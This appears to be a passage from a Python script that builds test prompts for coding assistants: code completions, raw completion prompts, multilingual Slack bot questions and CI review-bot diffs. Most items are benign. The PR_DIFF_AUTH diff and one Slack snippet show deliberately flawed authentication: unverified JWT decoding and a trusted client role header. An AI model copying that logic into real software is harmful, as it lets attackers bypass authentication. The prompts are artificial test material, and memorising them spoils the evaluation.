    fim="use std::io::{self, BufRead};\n\nfn main() -> io::Result<()> {\n    let stdin = io::stdin();\n    let mut total = 0u64;\n    for line in stdin.lock().lines() {\n        let line = line?;\n        <|C|>\n    }\n    println!(\"{total}\");\n    Ok(())\n}\n")
add("twinny", "completion", "en", "java", path="src/main/java/com/acme/geo/Haversine.java", fam="deepseek", rule="R1",
    fim="public final class Haversine {\n    private static final double EARTH_RADIUS_KM = 6371.0088;\n\n    public static double distanceKm(double lat1, double lon1, double lat2, double lon2) {\n        double dLat = Math.toRadians(lat2 - lat1);\n        double dLon = Math.toRadians(lon2 - lon1);\n        <|C|>\n    }\n}\n")
add("twinny", "completion", "en", "javascript", path="src/utils/storage.js", fam="qwen", rule="R1",
    fim="const PREFIX = \"app:\";\n\nexport function save(key, value, ttlMs) {\n  const item = { v: value, e: ttlMs ? Date.now() + ttlMs : null };\n  localStorage.setItem(PREFIX + key, JSON.stringify(item));\n}\n\nexport function load(key) {\n  const raw = localStorage.getItem(PREFIX + key);\n  if (!raw) return null;\n  <|C|>\n}\n")
add("twinny", "completion", "en", "c", path="src/crc32.c", fam="codellama", rule="R1",
    fim="#include <stdint.h>\n#include <stddef.h>\n\nstatic uint32_t table[256];\n\nvoid crc32_init(void)\n{\n    for (uint32_t i = 0; i < 256; i++) {\n        uint32_t c = i;\n        for (int k = 0; k < 8; k++)\n            <|C|>\n        table[i] = c;\n    }\n}\n\nuint32_t crc32(const uint8_t *buf, size_t len)\n{\n    uint32_t c = 0xFFFFFFFFu;\n    for (size_t i = 0; i < len; i++)\n        c = table[(c ^ buf[i]) & 0xFF] ^ (c >> 8);\n    return c ^ 0xFFFFFFFFu;\n}\n")
add("twinny", "completion", "en", "cpp", path="src/geometry.cpp", fam="qwen", rule="R1",
    fim="struct Vec2 { double x, y; };\n\ndouble cross(Vec2 o, Vec2 a, Vec2 b) {\n    return (a.x - o.x) * (b.y - o.y) - (a.y - o.y) * (b.x - o.x);\n}\n\n// Andrew's monotone chain\nstd::vector<Vec2> convex_hull(std::vector<Vec2> pts) {\n    std::sort(pts.begin(), pts.end(), [](Vec2 a, Vec2 b) { return a.x < b.x || (a.x == b.x && a.y < b.y); });\n    std::vector<Vec2> hull;\n    <|C|>\n    return hull;\n}\n")
add("twinny", "completion", "ja", "python", path="tools/csv_merge.py", fam="qwen", rule="R1",
    fim="import csv\nfrom pathlib import Path\n\n\ndef merge(paths: list[Path], out: Path) -> int:\n    \"\"\"複数の CSV を1つにまとめる。ヘッダーは最初のファイルのものを使う。\"\"\"\n    rows = 0\n    with out.open(\"w\", newline=\"\", encoding=\"utf-8\") as f:\n        writer = None\n        for p in paths:\n            # 文字コードは Shift_JIS の場合もある\n            <|C|>\n    return rows\n")
add("twinny", "completion", "ru", "go", path="internal/tg/bot.go", fam="deepseek", rule="R1",
    fim="// handleUpdate обрабатывает входящее сообщение от Telegram\nfunc (b *Bot) handleUpdate(ctx context.Context, u Update) error {\n\tif u.Message == nil {\n\t\treturn nil\n\t}\n\tswitch {\n\tcase strings.HasPrefix(u.Message.Text, \"/start\"):\n\t\treturn b.send(ctx, u.Message.Chat.ID, \"Привет! Я бот для заказов.\")\n\tcase strings.HasPrefix(u.Message.Text, \"/orders\"):\n\t\t// показать последние 5 заказов пользователя\n\t\t<|C|>\n\tdefault:\n\t\treturn b.send(ctx, u.Message.Chat.ID, \"Не понимаю команду\")\n\t}\n}\n")
add("twinny", "completion", "en", "typescript", path="src/review/ReviewList.tsx", fam="starcoder", rule="R1",
    fim="// TODO(review): planning to refactor this once the API supports cursors\nexport function ReviewList({ productId }: { productId: string }) {\n  const { data, isLoading } = useQuery({\n    queryKey: [\"reviews\", productId],\n    queryFn: () => api.get<Review[]>(`/products/${productId}/reviews`),\n  });\n  if (isLoading) return <Spinner />;\n  return (\n    <ul className=\"reviews\">\n      <|C|>\n    </ul>\n  );\n}\n")
add("twinny", "completion", "en", "python", path="migrations/plan.py", fam="deepseek", rule="R1",
    fim="# Migration plan: we will move users to the new billing schema in three phases.\n# Phase 1 (this script): copy plans and prices, dual-write from the app.\n\nPLAN_MAP = {\n    \"basic\": \"starter\",\n    \"pro\": \"growth\",\n    \"enterprise\": \"scale\",\n}\n\n\ndef migrate_plans(old_conn, new_conn):\n    rows = old_conn.execute(\"SELECT id, name, price_cents, interval FROM plans\").fetchall()\n    for id_, name, price, interval in rows:\n        <|C|>\n    new_conn.commit()\n")
add("twinny", "completion", "en", "swift", path="Sources/App/Util/Debouncer.swift", fam="qwen", rule="R1",
    fim="final class Debouncer {\n    private let delay: TimeInterval\n    private var work: DispatchWorkItem?\n\n    init(delay: TimeInterval) {\n        self.delay = delay\n    }\n\n    func call(_ block: @escaping () -> Void) {\n        <|C|>\n    }\n}\n")
add("twinny", "completion", "en", "bash", path="scripts/release.sh", fam="codellama", rule="R1",
    fim="#!/usr/bin/env bash\nset -euo pipefail\n\nVERSION=${1:?usage: release.sh VERSION}\nif ! [[ $VERSION =~ ^[0-9]+\\.[0-9]+\\.[0-9]+$ ]]; then\n  echo \"bad version: $VERSION\" >&2\n  exit 1\nfi\n\n# make sure the tree is clean\n<|C|>\n\ngit tag -a \"v$VERSION\" -m \"release v$VERSION\"\ngit push origin \"v$VERSION\"\n")
add("twinny", "completion", "en", "lua", path="lua/util/str.lua", fam="qwen", rule="R1",
    fim="local M = {}\n\nfunction M.split(s, sep)\n  local out = {}\n  for piece in string.gmatch(s, \"([^\" .. sep .. \"]+)\") do\n    table.insert(out, piece)\n  end\n  return out\nend\n\nfunction M.trim(s)\n  <|C|>\nend\n\nreturn M\n")

# --- twinny chat --------------------------------------------------------------------------

add("twinny", "review", "en", "typescript", "what does this hook do, and is the cleanup right?", S["ts_debounce_hook"], chat=True, rule="R6")
add("twinny", "refactor", "en", "javascript", "Refactor this into smaller functions with clear names", S["js_price"], chat=True, rule="R8")
add("twinny", "planning", "en", "none", "I need to add i18n to a React app with ~150 components and hardcoded English strings. Library choice and migration approach?", chat=True, rule="R7")
add("twinny", "review", "zh", "python", "这段代码的时间复杂度是多少？有没有更快的写法（先别写，只分析）", "```python\ndef has_dup(xs):\n    for i in range(len(xs)):\n        for j in range(i + 1, len(xs)):\n            if xs[i] == xs[j]:\n                return True\n    return False\n```", chat=True, rule="R6")
add("twinny", "planning", "es", "none", "¿Cómo organizarías un proyecto de microcontroladores (ESP32) con firmware en C, una app móvil y un backend para recibir telemetría? Estructura de repos, CI y actualizaciones OTA.", chat=True, rule="R7")
add("twinny", "refactor", "de", "python", "Bitte in eine Klasse mit sauberem Interface umbauen, Logik gleich lassen", S["py_scraper"], chat=True, rule="R8")
add("twinny", "planning", "en", "none", "should our small team adopt a monorepo (nx/turborepo) for 4 TS packages + 2 apps, or keep separate repos? what's the move and how", chat=True, rule="R6")
add("twinny", "completion", "en", "typescript", "generate a TypeScript type for a paginated API response with generic items, plus a helper to map items", chat=True, rule="R7")

# --- minuet-ai.nvim -----------------------------------------------------------------------

add("minuet", "completion", "en", "lua", tab="use 2 spaces for a tab", rule="R1",
    fim="local function on_attach(client, bufnr)\n  local opts = { buffer = bufnr }\n  vim.keymap.set(\"n\", \"gd\", vim.lsp.buf.definition, opts)\n  vim.keymap.set(\"n\", \"K\", vim.lsp.buf.hover, opts)\n  <|C|>\nend\n\nrequire(\"lspconfig\").gopls.setup({ on_attach = on_attach })\n")
add("minuet", "completion", "en", "python", rule="R1",
    fim="@dataclass\nclass RetryPolicy:\n    attempts: int = 3\n    base_delay: float = 0.2\n    max_delay: float = 5.0\n\n    def delays(self):\n        \"\"\"Yield the sleep before each retry (exponential, capped).\"\"\"\n        <|C|>\n")
add("minuet", "completion", "en", "go", tab="use tabs", rule="R1",
    fim="func TestParseDuration(t *testing.T) {\n\ttests := []struct {\n\t\tin   string\n\t\twant time.Duration\n\t\terr  bool\n\t}{\n\t\t{\"90s\", 90 * time.Second, false},\n\t\t{\"1h30m\", 90 * time.Minute, false},\n\t\t<|C|>\n\t}\n\tfor _, tt := range tests {\n\t\tgot, err := ParseDuration(tt.in)\n\t\tif (err != nil) != tt.err {\n\t\t\tt.Fatalf(\"%q: err = %v\", tt.in, err)\n\t\t}\n\t\tif got != tt.want {\n\t\t\tt.Errorf(\"%q: got %v want %v\", tt.in, got, tt.want)\n\t\t}\n\t}\n}\n")
add("minuet", "completion", "en", "rust", rule="R1",
    fim="#[derive(Debug)]\npub enum Command {\n    Get(String),\n    Set(String, String),\n    Del(String),\n}\n\nimpl std::str::FromStr for Command {\n    type Err = String;\n\n    fn from_str(s: &str) -> Result<Self, Self::Err> {\n        let mut parts = s.split_whitespace();\n        match parts.next() {\n            Some(\"GET\") => <|C|>\n            _ => Err(format!(\"unknown command: {s}\")),\n        }\n    }\n}\n")
add("minuet", "completion", "en", "typescript", tab="use 2 spaces for a tab", rule="R1",
    fim="export async function withTimeout<T>(p: Promise<T>, ms: number, label = \"operation\"): Promise<T> {\n  let timer: ReturnType<typeof setTimeout>;\n  const timeout = new Promise<never>((_, reject) => {\n    <|C|>\n  });\n  try {\n    return await Promise.race([p, timeout]);\n  } finally {\n    clearTimeout(timer!);\n  }\n}\n")
add("minuet", "completion", "en", "c", rule="R1",
    fim="/* Reverse the words of s in place: \"the sky is blue\" -> \"blue is sky the\" */\nstatic void reverse(char *a, char *b)\n{\n    while (a < b) {\n        char t = *a;\n        *a++ = *b;\n        *b-- = t;\n    }\n}\n\nvoid reverse_words(char *s)\n{\n    size_t n = strlen(s);\n    if (n == 0)\n        return;\n    reverse(s, s + n - 1);\n    <|C|>\n}\n")
add("minuet", "completion", "en", "cpp", rule="R1",
    fim="class Timer {\npublic:\n    Timer() : start_(std::chrono::steady_clock::now()) {}\n\n    double elapsed_ms() const {\n        <|C|>\n    }\n\nprivate:\n    std::chrono::steady_clock::time_point start_;\n};\n")
add("minuet", "completion", "en", "java", rule="R1",
    fim="    public static <T> List<List<T>> partition(List<T> list, int size) {\n        if (size <= 0) throw new IllegalArgumentException(\"size must be > 0\");\n        List<List<T>> out = new ArrayList<>();\n        <|C|>\n        return out;\n    }\n")
add("minuet", "completion", "en", "elixir", tab="use 2 spaces for a tab", rule="R1",
    fim="defmodule Shop.Cart do\n  defstruct items: %{}\n\n  def add(%__MODULE__{items: items} = cart, sku, qty \\\\ 1) when qty > 0 do\n    <|C|>\n  end\n\n  def total(%__MODULE__{items: items}, prices) do\n    Enum.reduce(items, 0, fn {sku, qty}, acc -> acc + Map.fetch!(prices, sku) * qty end)\n  end\nend\n")
add("minuet", "completion", "en", "haskell", tab="use 2 spaces for a tab", rule="R1",
    fim="-- | Run-length encode a list: \"aaabcc\" -> [('a',3),('b',1),('c',2)]\nrle :: Eq a => [a] -> [(a, Int)]\nrle [] = []\nrle (x:xs) = <|C|>\n\nunrle :: [(a, Int)] -> [a]\nunrle = concatMap (\\(c, n) -> replicate n c)\n")
add("minuet", "completion", "en", "sql", rule="R1",
    fim="CREATE TABLE invoices (\n    id          bigserial PRIMARY KEY,\n    customer_id bigint NOT NULL REFERENCES customers(id),\n    number      text NOT NULL UNIQUE,\n    issued_at   timestamptz NOT NULL DEFAULT now(),\n    <|C|>\n);\n\nCREATE INDEX invoices_customer_idx ON invoices (customer_id, issued_at DESC);\n")
add("minuet", "completion", "en", "bash", rule="R1",
    fim="#!/usr/bin/env bash\n# usage: backup-home.sh [DEST]\nset -euo pipefail\nDEST=${1:-/mnt/backup}\nEXCLUDES=(--exclude .cache --exclude node_modules --exclude .venv)\n\nif ! mountpoint -q \"$DEST\"; then\n  <|C|>\nfi\n\nrsync -aHAX --delete \"${EXCLUDES[@]}\" \"$HOME/\" \"$DEST/home/\"\n")
add("minuet", "completion", "zh", "python", rule="R1",
    fim="def calc_shipping(weight_kg: float, province: str) -> int:\n    \"\"\"计算运费（单位：分）。首重 1kg 12 元，续重每 kg 5 元；偏远地区（新疆、西藏）首重 20 元，续重 10 元。\"\"\"\n    remote = province in (\"新疆\", \"西藏\")\n    <|C|>\n")
add("minuet", "completion", "ja", "typescript", tab="use 2 spaces for a tab", rule="R1",
    fim="/** 全角英数字を半角に変換する（カタカナはそのまま） */\nexport function toHalfWidth(s: string): string {\n  return s.replace(<|C|>\n}\n")
add("minuet", "completion", "de", "java", rule="R1",
    fim="    /**\n     * Prüft, ob die IBAN formal gültig ist (Länge DE = 22, Prüfsumme mod 97 == 1).\n     */\n    public static boolean isValidGermanIban(String iban) {\n        String s = iban.replace(\" \", \"\").toUpperCase(Locale.ROOT);\n        if (!s.startsWith(\"DE\") || s.length() != 22) {\n            return false;\n        }\n        <|C|>\n    }\n")
add("minuet", "completion", "es", "javascript", tab="use 2 spaces for a tab", rule="R1",
    fim="// Calcula la letra del DNI español a partir del número\nfunction letraDNI(numero) {\n  const letras = \"TRWAGMYFPDXBNJZSQVHLCKE\";\n  <|C|>\n}\n\nmodule.exports = { letraDNI };\n")
add("minuet", "completion", "ru", "rust", rule="R1",
    fim="/// Склоняет слово \"файл\" по числу: 1 файл, 2 файла, 5 файлов\npub fn plural_files(n: u64) -> &'static str {\n    let n10 = n % 10;\n    let n100 = n % 100;\n    <|C|>\n}\n")
add("minuet", "completion", "en", "python", rule="R1",
    fim="def test_token_bucket_refills(monkeypatch):\n    now = [1000.0]\n    monkeypatch.setattr(time, \"monotonic\", lambda: now[0])\n    bucket = TokenBucket(rate=2, capacity=2)\n    assert bucket.try_acquire(2)\n    assert not bucket.try_acquire()\n    <|C|>\n")
add("minuet", "completion", "en", "scala", rule="R1",
    fim="object WordCount {\n  def top(lines: Iterator[String], n: Int): Seq[(String, Int)] =\n    lines\n      .flatMap(_.toLowerCase.split(\"\\\\W+\"))\n      .filter(_.nonEmpty)\n      <|C|>\n}\n")
add("minuet", "completion", "en", "go", tab="use tabs", rule="R1",
    fim="// Review is a product review left by a customer.\ntype Review struct {\n\tID        int64     `json:\"id\"`\n\tProductID int64     `json:\"product_id\"`\n\tRating    int       `json:\"rating\"`\n\tBody      string    `json:\"body\"`\n\tCreatedAt time.Time `json:\"created_at\"`\n}\n\n// AverageRating returns the mean rating, or 0 for no reviews.\nfunc AverageRating(rs []Review) float64 {\n\t<|C|>\n}\n")

# --- raw /v1/completions from scripts ---------------------------------------------------------

add("raw", "completion", "en", "python", "Write a Python function that returns the n-th Fibonacci number iteratively.", tpl="chatml", rule="R1")
add("raw", "completion", "en", "python", "Review this function and list any bugs you find.", S["py_retry"], tpl="chatml", system=RAW_CHATML_SYS[2], rule="R1")
add("raw", "completion", "en", "none", "We are planning to migrate our monolith to microservices. Outline a step-by-step migration plan.", tpl="mistral", rule="R1")
add("raw", "completion", "en", "go", "Refactor the following Go function to remove the data race.", S["go_worker"], tpl="mistral", rule="R1")
add("raw", "completion", "en", "sql", "Write a SQL query that returns the second highest salary from the employees table.", tpl="alpaca", rule="R1")
add("raw", "completion", "en", "javascript", "Explain what the following code does.", S["js_emitter"], tpl="alpaca", rule="R1")
add("raw", "completion", "zh", "python", "用 Python 写一个函数，判断一个字符串是不是回文（忽略大小写和标点）。", tpl="chatml", system=RAW_CHATML_SYS[1], rule="R1")
add("raw", "completion", "ja", "typescript", "次の TypeScript コードをレビューして、問題点を箇条書きで挙げてください。", S["ts_form"], tpl="chatml", system=RAW_CHATML_SYS[1], rule="R1")
add("raw", "completion", "ru", "rust", "Напиши на Rust функцию, которая переворачивает строку с учётом юникодных графем (можно использовать unicode-segmentation).", tpl="mistral", rule="R1")
add("raw", "completion", "de", "java", "Schreibe eine Java-Methode, die prüft, ob ein Jahr ein Schaltjahr ist.", tpl="alpaca", rule="R1")
add("raw", "completion", "es", "c", "Escribe una función en C que cuente los bits a 1 de un entero sin signo de 32 bits.", tpl="llama3", rule="R1")
add("raw", "completion", "en", "cpp", "Convert this C++ class to use smart pointers.", S["cpp_lru"], tpl="llama3", system="You are a senior C++ engineer.", rule="R1")
add("raw", "completion", "en", "none", "Compare PostgreSQL and MongoDB for an e-commerce order system and recommend one.", tpl="llama3", rule="R1")
add("raw", "completion", "en", "python", tpl="prompt", rule="R1", max_tokens=256, temperature=0,
    prompt="# utils/text.py\nimport re\n\n\ndef camel_to_snake(name: str) -> str:\n    \"\"\"Convert CamelCase or camelCase to snake_case.\n\n    >>> camel_to_snake(\"HTTPServerError\")\n    'http_server_error'\n    \"\"\"\n")
add("raw", "completion", "en", "javascript", tpl="prompt", rule="R1", max_tokens=200,
    prompt="/**\n * Returns a new array with duplicates removed, keeping the first occurrence.\n * Objects are compared by the value returned from keyFn.\n * @template T\n * @param {T[]} items\n * @param {(item: T) => unknown} keyFn\n * @returns {T[]}\n */\nexport function uniqBy(items, keyFn) {\n")
add("raw", "completion", "en", "go", tpl="prompt", rule="R1", max_tokens=300,
    prompt="package mathx\n\n// Clamp returns v limited to the range [lo, hi].\nfunc Clamp[T constraints.Ordered](v, lo, hi T) T {\n")
add("raw", "completion", "en", "rust", "Write a Rust function `fn is_prime(n: u64) -> bool` using trial division up to sqrt(n).", tpl="chatml", system=RAW_CHATML_SYS[0], rule="R1")
add("raw", "completion", "ko", "python", "파이썬으로 리스트에서 가장 많이 나온 원소 k개를 반환하는 함수를 작성해줘.", tpl="chatml", system=RAW_CHATML_SYS[1], rule="R1")
add("raw", "completion", "it", "bash", "Scrivi uno script bash che comprime in tar.gz tutte le cartelle più vecchie di 30 giorni in /var/log/app.", tpl="mistral", rule="R1")
add("raw", "completion", "en", "java", "Why does this code throw ConcurrentModificationException?\n\n```java\nfor (String s : names) {\n    if (s.isEmpty()) names.remove(s);\n}\n```", tpl="alpaca", rule="R1")


# ---------------------------------------------------------------------------------------
# Batch 8: Slack bot (OpenAI SDK) and CI review bot
# ---------------------------------------------------------------------------------------

add("slack", "review", "en", "python",
    "<@U04HOOT> what does this mean? our nightly job died with it\n```Traceback (most recent call last):\n  File \"/app/etl/load_orders.py\", line 17, in load_orders\n    created = datetime.strptime(r[\"created_at\"], \"%Y-%m-%d %H:%M:%S\")\n  File \"/usr/lib/python3.12/_strptime.py\", line 554, in _strptime_datetime\n    tt, fraction, gmtoff_fraction = _strptime(data_string, format)\n  File \"/usr/lib/python3.12/_strptime.py\", line 336, in _strptime\n    raise ValueError(\"unconverted data remains: %s\" %\nValueError: unconverted data remains: .482113+00```",
    rule="R5", channel="data-eng")
add("slack", "planning", "en", "none",
    "<@U04HOOT> we keep having incidents where someone runs a migration that locks a big table during business hours. what process/tooling should we put in place so this stops happening? looking for something we can agree on in the backend guild on thursday",
    rule="R7", channel="backend")
add("slack", "review", "en", "none",
    "<@U04HOOT> can someone explain why our p99 jumped? grafana snippet:\n```service=checkout p50=42ms p95=180ms p99=2410ms  (yesterday p99=390ms)\nerrors 0.1%\ndb_pool_wait_ms p99=2200\ndb_pool_size=10 in_use_max=10\nreplicas=6 (yesterday 3)```",
    rule="R5", channel="incidents")
add("slack", "planning", "en", "none",
    "<@U04HOOT> prod latency doubled since tuesday's release, nothing obvious in the diff, CPU is fine, DB looks fine-ish. how do we even approach finding this? need a game plan for tomorrow morning",
    rule="R5", channel="incidents",
    history=[("user", "priya: anyone else seeing slow checkout since tuesday?"),
             ("user", "jbauer: yeah, p95 went from ~180 to ~400ms, p99 is all over the place"),
             ("user", "dana.k: rolled back the feature flag for new-pricing, no change")])
add("slack", "completion", "en", "sql",
    "<@U04HOOT> quick one: postgres query to list the 20 largest tables with their index sizes and row estimates",
    rule="R7", channel="data-eng")
add("slack", "review", "en", "typescript",
    "<@U04HOOT> is this safe? someone put it in our auth middleware\n```const isAdmin = req.headers['x-user-role'] === 'admin'\nif (isAdmin) return next()```",
    rule="R6", channel="security")
add("slack", "refactor", "en", "python",
    "<@U04HOOT> can you fix this so it handles the microseconds + timezone in created_at? it's from our export\n```created = datetime.strptime(r[\"created_at\"], \"%Y-%m-%d %H:%M:%S\")\nif since and created < since:\n    continue```",
    rule="R8", channel="data-eng")
add("slack", "planning", "de", "none",
    "<@U04HOOT> Wir müssen bis Jahresende die Logs DSGVO-konform machen (IP-Adressen, E-Mails in Logs). Wie würdest du das angehen? Bestandsaufnahme, Maskierung, Aufbewahrungsfristen, Löschung in Elasticsearch.",
    rule="R7", channel="platform", author="jbauer")
add("slack", "review", "de", "bash",
    "<@U04HOOT> Was macht `set -o pipefail` genau, und warum bricht unser Skript deswegen bei `grep -q` ab?",
    rule="R6", channel="platform", author="lena.m")
add("slack", "planning", "zh", "none",
    "<@U04HOOT> 我们下个季度要做异地多活（北京+上海两个机房），现在是单机房 MySQL 主从 + Redis。数据同步、流量切换、故障演练这些怎么规划？先给个大框架",
    rule="R7", channel="infra", author="wei.zhang")
add("slack", "review", "zh", "java",
    "<@U04HOOT> 线上报 `java.lang.OutOfMemoryError: Metaspace`，重启就好，过两天又出现。可能是什么原因？\n```-XX:MaxMetaspaceSize=256m\nGroovy 脚本引擎每次请求都 new GroovyShell().evaluate(script)```",
    rule="R5", channel="backend", author="wei.zhang")
add("slack", "planning", "ja", "none",
    "<@U04HOOT> 来月から新卒3人がバックエンドチームに入ります。オンボーディングの計画を立てたいです。最初の2週間で何をやってもらうか、環境構築・コードベースの理解・最初のPRまでの流れを提案してください",
    rule="R7", channel="backend", author="sora")
add("slack", "review", "ja", "go",
    "<@U04HOOT> この Go のエラー、どういう意味ですか？ `panic: assignment to entry in nil map` ログの行は `cfg.Labels[k] = v` です",
    rule="R5", channel="backend", author="sora")
add("slack", "completion", "ru", "bash",
    "<@U04HOOT> дай однострочник: найти все поды в namespace prod, которые рестартовали больше 5 раз, и вывести имя и количество рестартов",
    rule="R7", channel="infra", author="ivan_p")
add("slack", "review", "ru", "none",
    "<@U04HOOT> объясни, что значит этот вывод `kubectl describe pod`, почему под не стартует:\n```Events:\n  Type     Reason            Age                From               Message\n  ----     ------            ----               ----               -------\n  Warning  FailedScheduling  2m (x14 over 9m)   default-scheduler  0/6 nodes are available: 2 Insufficient memory, 4 node(s) had untolerated taint {dedicated: gpu}. preemption: 0/6 nodes are available: 2 No preemption victims found for incoming pod, 4 Preemption is not helpful for scheduling.```",
    rule="R5", channel="infra", author="ivan_p")
add("slack", "planning", "ru", "none",
    "<@U04HOOT> хотим перейти с ручных релизов раз в две недели на continuous deployment. у нас 5 сервисов, интеграционные тесты гоняются 40 минут, есть мобильное приложение, которое зависит от API. что нужно сделать и в каком порядке?",
    rule="R7", channel="backend", author="ivan_p")
add("slack", "review", "es", "python",
    "<@U04HOOT> ¿por qué este test pasa en local y falla en CI? `AssertionError: assert '2025-10-14 00:00' == '2025-10-13 22:00'` — el test compara una fecha formateada con la zona horaria del sistema",
    rule="R4", channel="backend", author="Tomás")
add("slack", "planning", "es", "none",
    "<@U04HOOT> Estamos pensando en sacar la búsqueda de productos de Postgres (LIKE + trigram) a Elasticsearch u OpenSearch o Typesense. 2M productos, 5 idiomas. ¿Qué recomiendas y cómo migramos sin romper la búsqueda actual?",
    rule="R6", channel="backend", author="Tomás")
add("slack", "refactor", "es", "javascript",
    "<@U04HOOT> ¿puedes arreglar esto? se queda colgado cuando la API devuelve 500\n```async function getAll(ids) {\n  const out = []\n  for (const id of ids) {\n    const r = await fetch(`/api/items/${id}`)\n    out.push(await r.json())\n  }\n  return out\n}```",
    rule="R8", channel="frontend", author="Tomás")
add("slack", "review", "en", "none",
    "<@U04HOOT> tl;dr this thread for me, what was decided?",
    rule="R10", channel="backend",
    history=[("user", "dana.k: proposal: we drop python 3.9 support in the SDK for the next minor. 3.9 is EOL and we can use match statements + better typing"),
             ("user", "jbauer: +1 but two enterprise customers pinned 3.9 last time we asked, we should check with CS"),
             ("user", "priya: CS says one of them moved to 3.11, the other is on 3.9 until Q2"),
             ("user", "dana.k: ok then: next minor keeps 3.9 but warns on import, the one after drops it. I'll write the deprecation notice"),
             ("user", "jbauer: sounds good. also pin the CI matrix to 3.10-3.13 for main, keep 3.9 only on the release branch"),
             ("user", "priya: 👍 I'll tell CS the timeline")])
add("slack", "planning", "en", "none",
    "<@U04HOOT> we're getting a 5x traffic spike on black friday (last year we went down for 40 min). it's october. what should we do between now and then? we have 4 backend devs and no dedicated SRE",
    rule="R5", channel="backend", author="dana.k")
add("slack", "review", "en", "go",
    "<@U04HOOT> code golf question: which of these is more idiomatic go?\n```// a\nif err != nil { return fmt.Errorf(\"load: %v\", err) }\n// b\nif err != nil { return fmt.Errorf(\"load: %w\", err) }```",
    rule="R6", channel="go", author="jbauer")
add("slack", "completion", "en", "python",
    "<@U04HOOT> python snippet to turn a list of dicts into a markdown table (columns from the first dict's keys) pls",
    rule="R7", channel="eng-help", author="priya")
add("slack", "planning", "en", "none",
    "<@U04HOOT> what's our options for running LLM features without sending customer data to a US provider? we need something for summarizing support tickets. self-host vs EU endpoints vs anonymization. give me a decision matrix + next steps",
    rule="R6", channel="ai-guild", author="lena.m")
add("slack", "review", "en", "none",
    "<@U04HOOT> is it bad that our docker images are 2.3GB? what's usually in there",
    rule="R6", channel="platform", author="sora")
add("slack", "refactor", "en", "none",
    "<@U04HOOT> shrink this Dockerfile please, multi-stage + slim base, keep it working with the same entrypoint\n```FROM python:3.12\nWORKDIR /app\nCOPY . .\nRUN apt-get update && apt-get install -y build-essential libpq-dev\nRUN pip install -r requirements.txt\nEXPOSE 8000\nCMD [\"gunicorn\", \"app.wsgi:application\", \"-b\", \"0.0.0.0:8000\", \"-w\", \"4\"]```",
    rule="R8", channel="platform", author="sora")
add("slack", "planning", "ko", "none",
    "<@U04HOOT> 사내 API 문서가 위키, 노션, 코드 주석에 흩어져 있어. OpenAPI 기반으로 통합하고 싶은데 어떤 순서로 진행하면 좋을까? 코드 퍼스트 vs 스펙 퍼스트도 고민 중",
    rule="R6", channel="backend", author="sora")
add("slack", "review", "ko", "python",
    "<@U04HOOT> `asyncio.gather` 랑 `asyncio.TaskGroup` 차이가 뭐야? 하나 실패하면 나머지는 어떻게 돼?",
    rule="R6", channel="python", author="sora")
add("slack", "planning", "it", "none",
    "<@U04HOOT> Dobbiamo decidere se passare da Jenkins a GitLab CI per i 20 progetti del team. Quali sono i pro e contro nel nostro caso (runner on-prem, pipeline Groovy complesse) e come pianificheresti la migrazione?",
    rule="R6", channel="devops", author="lena.m")
add("slack", "review", "it", "none",
    "<@U04HOOT> cosa vuol dire questo errore di git? `fatal: refusing to merge unrelated histories`",
    rule="R5", channel="eng-help", author="lena.m")
add("slack", "planning", "en", "none",
    "<@U04HOOT> new-ish eng manager here. how should I structure our on-call rotation for 7 people across 2 timezones (berlin + toronto)? escalation, handover, compensation... just need a starting proposal",
    rule="R7", channel="eng-managers", author="priya")
add("slack", "review", "en", "none",
    "<@U04HOOT> what's the actual difference between a readiness and a liveness probe? we have them pointing at the same /healthz",
    rule="R6", channel="platform", author="dana.k")
add("slack", "completion", "en", "none",
    "<@U04HOOT> need a GitHub Actions workflow that runs `make lint test` on PRs for go 1.22 and 1.23, with module caching",
    rule="R7", channel="go", author="jbauer")
add("slack", "refactor", "en", "go",
    "<@U04HOOT> apply the suggestion from review: wrap the error with %w and add the file name\n```func load(path string) (*Config, error) {\n\tb, err := os.ReadFile(path)\n\tif err != nil {\n\t\treturn nil, fmt.Errorf(\"load: %v\", err)\n\t}\n\tvar c Config\n\tif err := yaml.Unmarshal(b, &c); err != nil {\n\t\treturn nil, err\n\t}\n\treturn &c, nil\n}```",
    rule="R8", channel="go", author="jbauer")
add("slack", "planning", "en", "none",
    "<@U04HOOT> proposal time: we want to deprecate our internal `acme-utils` python package (used by 25 repos, half of it is dead code). how do we plan this so nobody is blocked?",
    rule="R7", channel="python", author="dana.k")

# --- CI review bot --------------------------------------------------------------------------

PR_DIFF_AUTH = """diff --git a/src/middleware/auth.ts b/src/middleware/auth.ts
index 3c4d5e6..7f8a9b0 100644
--- a/src/middleware/auth.ts
+++ b/src/middleware/auth.ts
@@ -8,14 +8,26 @@ declare module "express-serve-static-core" {
 export async function requireAuth(req: Request, res: Response, next: NextFunction) {
   const header = req.headers.authorization ?? "";
   const token = header.replace(/^Bearer /, "");
+  const apiKey = req.headers["x-api-key"];
+  if (apiKey) {
+    const key = await db.apiKey.findFirst({ where: { key: String(apiKey) } });
+    if (key) {
+      req.user = { id: key.userId, email: "" };
+      return next();
+    }
+  }
   try {
-    const payload = jwt.verify(token, process.env.JWT_SECRET!) as { sub: string; email: string };
+    const payload = jwt.decode(token) as { sub: string; email: string; exp: number };
+    if (payload.exp * 1000 < Date.now()) {
+      return res.status(401).json({ error: "expired" });
+    }
     req.user = { id: payload.sub, email: payload.email };
     next();
   } catch {
     res.status(401).json({ error: "unauthorized" });
   }
 }
"""

PR_DIFF_WORKER = """diff --git a/worker/tasks.py b/worker/tasks.py
index 1a2b3c4..5d6e7f8 100644
--- a/worker/tasks.py
+++ b/worker/tasks.py
@@ -28,11 +28,15 @@ def send_order_confirmation(self, order_id):
 @shared_task
 def cancel_stale_orders():
     from datetime import timedelta
     from django.utils import timezone
 
-    cutoff = timezone.now() - timedelta(hours=24)
-    for order in Order.objects.filter(status=Order.Status.PENDING, created_at__lt=cutoff):
-        order.status = Order.Status.CANCELLED
-        order.save()
+    cutoff = timezone.now() - timedelta(hours=settings.STALE_ORDER_HOURS)
+    stale = Order.objects.filter(status=Order.Status.PENDING, created_at__lt=cutoff)
+    count = stale.update(status=Order.Status.CANCELLED)
+    for order in stale:
+        release_stock(order)
+    log.info("cancelled %d stale orders", count)
+    return count
 
 
 def render_confirmation(order):
diff --git a/shop/settings.py b/shop/settings.py
index 9e8d7c6..5b4a3f2 100644
--- a/shop/settings.py
+++ b/shop/settings.py
@@ -141,3 +141,5 @@ CELERY_BEAT_SCHEDULE = {
         "schedule": crontab(minute="*/15"),
     },
 }
+
+STALE_ORDER_HOURS = int(os.environ.get("STALE_ORDER_HOURS", 24))
"""

